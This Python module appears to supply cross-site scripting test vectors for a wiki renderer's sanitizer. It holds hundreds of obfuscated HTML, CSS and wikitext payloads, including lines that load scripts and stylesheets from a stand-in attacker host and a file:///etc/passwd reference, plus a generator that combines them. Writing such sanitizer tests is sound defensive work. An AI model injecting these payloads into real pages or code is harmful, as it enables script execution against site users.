"""Attacks on a renderer, in classes known from sanitizer suites.

Event handlers, script in addresses and styles, elements that load or navigate, odd spellings,
broken tags, parser confusion.
"""

from __future__ import annotations

from collections.abc import Iterator

_HANDLERS = [
    "onload", "onclick", "onerror", "onmouseover", "ONFOCUS", "onAnimationStart", "on\u200bclick",
    "onclick\x0c", "formaction", "srcdoc", "xlink:href", "href", "src", "background", "action",
]  # fmt: skip
_SCRIPTS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)", "javascript&colon;alert(1)", "java&Tab;script:alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "\x01javascript:alert(1)", "livescript:x",
    "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "blob:x", "filesystem:x",
    "file:///etc/passwd", "about:blank", "jar:http://x!/", "res://x",
]  # fmt: skip
_STYLES = [
    "background:url(javascript:alert(1))", "background:url(https://evil.example/x)",
    "background:\\75\\72\\6c(https://evil.example/)", "width:expression(alert(1))",
    "width:expr/**/ession(alert(1))", "width:e\\78pression(alert(1))",
    "width:\uff45xpression(alert(1))", "@import 'https://evil.example/x'",
    "behavior:url(x.htc)", "-moz-binding:url(x)", "background:image-set('x' 1x)",
    "list-style:url(&quot;x&quot;)", "content:attr(title url)", "background:u\\rl(x)",
    "color:red;}</style><script>alert(1)</script>", "background:URL (x)", "src (x)",
    "/*--*/background:url(x)/*", "-o-link:'javascript:alert(1)';-o-link-source:current",
    "background:ur\u029f(x)", "width:expre\u017fsion(alert(1))",
]  # fmt: skip
RAW = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x></SCRIPT>", "<script/xss>alert(1)",
    "<<script>alert(1);//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<math><mtext><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>x</script>'>",
    "<object data=x></object><embed src=x>", "<form action=x><input type=submit></form>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta itemprop=a http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link itemprop=a rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preconnect itemprop=a href=//evil.example>", "<style>*{background:url(x)}</style>",
    "<a href=javascript:alert(1)>x</a>", "<a href=https://example.org onclick=x()>x</a>",
    "<b onclick=alert(1)>x</b>", "<b/onclick=alert(1)>x</b>", "<b \x00onclick=alert(1)>x</b>",
    "<b title='>' onclick=alert(1)>x</b>", "<b title=\"' onclick=alert(1) '\">x</b>",
    "<b x='<' onclick=alert(1)>x</b>", "<b\x0bonclick=alert(1)>x</b>", "<br/onclick=alert(1)>",
    "</p onclick=alert(1)>", "<!--><script>alert(1)</script>-->", "<!-- --!><script>x</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>x</script>",
    "<!DOCTYPE html><script>x</script>", "<table background=javascript:alert(1)><td>x</table>",
    "<td background=x>", "<div style='background:url(x)'>", "<p id='\"><script>alert(1)</script>'>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<textarea><script>alert(1)</script></textarea>", "<title><script>x</script></title>",
    "<template><script>alert(1)</script></template>", "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>", "<video src=x onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1)>", "<body onload=alert(1)>", "<frameset onload=x>",
    "<marquee onstart=alert(1)>", "<bgsound src=x>", "<keygen autofocus onfocus=x>",
    "<mw:editsection><script>x</script></mw:editsection>", "<object>x</object>",
    "<figure><object><script>x</script></object></figure>", "<image src=x onerror=alert(1)>",
    "<!--LINK 0-->", "<!--LINK 99999999999999999999-->", "\x7fheading:0\x7f",
    "{| onclick=alert(1)\n! onclick=alert(1) | x\n|- onclick=alert(1)\n| onclick=alert(1) | y\n|}",
    "{| style=\"background:url(x)\"\n| x\n|}", "{| id='\"><script>x</script>'\n|x\n|}",
    "== <script>alert(1)</script> ==", "== \"><img src=x onerror=alert(1)> ==",
    "[[javascript:alert(1)]]", "[[Moscow|<script>alert(1)</script>]]",
    "[[Moscow#\"><script>alert(1)</script>]]", "[[w:\"onclick=alert(1)|x]]",
    "[javascript:alert(1) x]", "[https://example.org/\"onclick=alert(1) x]",
    "[https://example.org <script>alert(1)</script>]", "https://example.org/\"onclick=alert(1)",
    "https://example.org/<script>alert(1)</script>", "https://example.org/'onclick='alert(1)",
    "[https://example.org/&#34;onclick=alert(1) x]", "[https://example.org/&lt;script&gt; x]",
    "[data:text/html,<script>x</script> y]", "ISBN 0306406152\" onclick=\"x",
    "[[File:Lake.jpg|thumb|<script>alert(1)</script>]]",
    "[[File:Lake.jpg|alt=\"><script>alert(1)</script>]]",
    "[[File:Lake.jpg|class=\" onclick=\"alert(1)]]", "[[File:Lake.jpg|link=javascript:alert(1)]]",
    "[[File:Lake.jpg|link=https://example.org/\"onclick=alert(1)]]",
    "[[File:Lake.jpg|link=data:text/html,x]]", "[[File:Lake.jpg|lang=\"onclick=x]]",
    "[[File:\"onerror=alert(1).jpg]]", "[[File:None.jpg|<img src=x onerror=alert(1)>]]",
    "[[Media:\"><script>alert(1)</script>]]", "[[Category:\"><script>x</script>]]",
    "<span title=\"[[File:Lake.jpg]]\">x</span>", "<span title=\"https://example.org/'x\">y</span>",
    "<span title=\"''x'' __TOC__ {| ISBN 0306406152 RFC 1\">y</span>",
    "<span title=\"[https://a b]\" class='[[Moscow]]'>x</span>",
    "'''<b title=\"'''\">x</b>'''", "<div title=\"\n|}\n== x ==\n\">y</div>",
]  # fmt: skip

# Places of a page where an attack may stand, as "@".
AROUND = [
    "{{1x|@}}",
    "<ref>@</ref>\n<references />",
    '<ref name=\'@\' group="@">a</ref>\n<references group="@" />',
    '<ref>@" onerror="x()" a="</ref>[[File:Lake.jpg|alt=b<references />|c<references />]]',
    '<ref>@" onerror="x()" a="</ref>\n== <references /> ==\n__TOC__\n== b ==',
    "<div title=\"&gt; <ref name='a/onclick=x()//'>@</ref>\">[[File:No.jpg|<ref>@</ref>]]</div>",
    "<gallery caption='@' class='@' style='@'>\nLake.jpg|@\n@\n</gallery>",
    "<poem style=\"@\" class='@'>@</poem>",
    "<pre style=\"@\" id='@'>@</pre>",
    "<syntaxhighlight lang='@' class=\"@\" id='@'>@</syntaxhighlight>",
    "<indicator name='@'>@</indicator>",
    "<math>@</math> <math display='@'>\\text{@} \\href{@}{@} \\class{@}{x}</math>",
    "{{DISPLAYTITLE:@}}",
    "{{#tag:pre|@|style=@}} {{#if:1|@}} {{#expr:@}} {{lc:@}}",
    "{{#tag:pre|x|data-@=@}} {{#tag:poem|x|@=@}} {{#tag:gallery|Lake.jpg|a@=@|caption=@}}",
    "{{#tag:ref|a|@=@}} {{#tag:ref|b|name=@|group=@}} {{#tag:@|@|@=@}}",
    "{{#time:@|@}} {{#language:@}} {{#special:@}} {{int:@}} {{#formatdate:@}} {{formatnum:@}}",
    "{{padleft:@|9|@}} {{urlencode:@}} {{anchorencode:@}} {{fullurl:@|@}} {{filepath:@}} {{ns:@}}",
    "{{#interwikilink:w|@|@}} {{#switch:@|@=@}} {{#iferror:@|@}} {{#urldecode:@}} {{#sub:@|1|9}}",
    "== @ ==\n== @ ==\n__TOC__\n__FORCETOC__",
    "#REDIRECT [[@]]",
    "<nowiki>@</nowiki> <nowiki a='@' />",
    "[[@]] [[Moscow|@]] [[@|x]] [@ @] {{@}}",
    "[[Test page#@|@]] [[w:#@]] [[#@]] [[Media:@|@]] [[Category:A|@]] [[:File:@]]",
    "[[File:Lake.jpg|thumb|[[Test page#@|@]]]] [[File:Lake.jpg|thumb|alt=@|link=@|class=@|@]]",
    "[[File:None.jpg|@]] [[File:Lake.jpg|lang=@|page=@|@|thumb=@]]",
]

# Pieces of wikitext, of HTML and of ways out of both, to be put together at random.
FRAGMENTS = [
    "onmouseover=alert(1)", '" onmouseover=alert(1) x="', "' onclick=alert(1) '", "javascript:",
    "<script>alert(1)</script>", ">", "<", '"', "'", "`", "\x7f", "\0", "\n", "\t", "\x0b", "\x0c",
    "\u00a0", "\u2028", "&quot;", "&lt;", "&gt;", "&#124;", "&#91;", "&#93;", "&#123;", "&#125;",
    "&#10;", "&#61;", "&#58;", "&amp;", "&amp;lt;", "%7F", "%22", "%3E", "%3C", "%0A", "%7C", "%5B",
    "%5D", "|", "||", "!!", "=", "[[", "]]", "[", "]", "{{", "}}", "{{{", "}}}", "{|", "\n|}", "|-",
    "|+", "\n== ", " ==\n", "''", "'''", "'''''", "__TOC__", "__FORCETOC__", "~~~", "----", "\n* ",
    "\n; ", ":", "\n:", "\n ", "-{", "}-", "//", "http://a/", 'https://x.y/"z', "mailto:",
    "ISBN 0306406152", "RFC 1", "PMID 1", "<!--", "-->", "--!>", "<!---->", "<b>", "</b>", "<i ",
    '<span title="', "<span title='", '<div style="', "</div>", "</p>", "<p>", "<table>",
    "</table>", "<td>", "<tr>", "<pre>", "</pre>", "<h2>", "</h2>", "<br/>", '<a href="', "</a>",
    '<font color="', "<nowiki>", "</nowiki>", "<nowiki/>", "<ref>", "</ref>", '<ref name="',
    "<ref/>", "<references/>", "<references>", "</references>", "<poem>", "</poem>", "<gallery>",
    "</gallery>", '<gallery caption="', "<math>", "</math>", "<syntaxhighlight lang='c'>",
    "</syntaxhighlight>", '<indicator name="', "</indicator>", "<noinclude>", "</noinclude>",
    "<includeonly>", "</includeonly>", "<onlyinclude>", "[[File:Lake.jpg|",
    "[[File:Lake.jpg|thumb|",
    "[[File:None.jpg|", "[[Media:Lake.jpg|", "alt=", "link=", "class=", "title=", "id=", "style=",
    "lang=", "data-x", "[[Test page#", "[[#", "[[w:", "[[Moscow|", "[[Category:A|",
    "[[:File:Lake.jpg", "{{1x|", "{{1x|1=", "{{lc:", "{{uc:", "{{padleft:a|9|", "{{padright:|3|",
    "{{urlencode:", "{{anchorencode:", "{{#tag:", "{{#tag:pre|", "{{#tag:ref|", "{{#tag:ref||name=",
    "{{#tag:gallery|Lake.jpg|", "{{#tag:span|", "{{#tag:nowiki|", "{{#if:1|", "{{#expr:",
    "{{#time:", "{{#sub:", "{{#replace:", "{{#urldecode:", "{{#explode:", "{{fullurl:",
    "{{localurl:", "{{#language:", "{{#special:", "{{#interwikilink:w|", "{{int:",
    "{{DISPLAYTITLE:", "{{PAGENAME}}", "{{formatnum:", "{{plural:1|", "{{#switch:a|",
    "{{#iferror:", "{{other", "{{{1|", "{{{x}}}", "{{!}}", "{{=}}", "url(x)", "expression(1)",
    "<noscript>", "<svg>", "<math><mtext>", "<style>", "</style>", "<textarea>", "<title>", "<xmp>",
    "<plaintext>", "<select>", "<template>", "<li>", "<dl><dd>", "<ul>", "<caption>",
    "<ruby><rt>", "<blockquote>", "<center>", "<figure ", "</figure>", "<object>", "</object>",
    "x", "1", "\\", "/*", "*/", ";", "\\text{", "\\href{javascript:x}{",
]  # fmt: skip


def vectors() -> Iterator[str]:
    """Yield every attack as wikitext."""
    yield from RAW
    for name in _HANDLERS:
        for quote in ("", "'", '"'):
            yield f"<div {name}={quote}javascript:alert(1){quote}>x</div>"
    for script in _SCRIPTS:
        yield f'<a href="{script}">x</a>'
        yield f"[{script} x]"
        yield f"{script}"
        yield f"[[File:Lake.jpg|link={script}]]"
        yield f'<blockquote cite="{script}">x</blockquote>'
        yield f'<link itemprop="x" href="{script}">'
        yield f'<span itemscope itemtype="{script}" itemid="{script}" about="{script}">x</span>'
    for style in _STYLES:
        yield f'<div style="{style}">x</div>'
        yield f"{{| style='{style}'\n| style=\"{style}\" | x\n|}}"
